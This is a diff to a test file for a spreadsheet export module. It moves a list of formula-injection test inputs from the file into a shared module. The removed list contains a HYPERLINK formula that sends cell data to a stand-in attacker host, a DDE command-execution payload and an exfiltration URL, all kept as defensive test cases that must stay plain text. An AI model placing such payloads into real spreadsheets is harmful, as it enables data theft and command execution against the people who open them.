@@ -12,21 +12,7 @@ from openpyxl import load_workbook
 
 from qitong.core import exports
 from qitong.core.clock import SHANGHAI
-
-# What an outside probe put into enterprise-supplied text: each must stay text.
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?d="&B2&C2,"点击查看附件")',
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "+1",
-    "-1",
-    "=SUM(A1:A2)",
-    "http://evil.example/steal",
-    "mailto:a@evil.example",
-    "0123",
-    "1e5",
-]
+from tests.core.formulas import PAYLOADS
 
 
 def export(rows, headers=("标题",), **options):
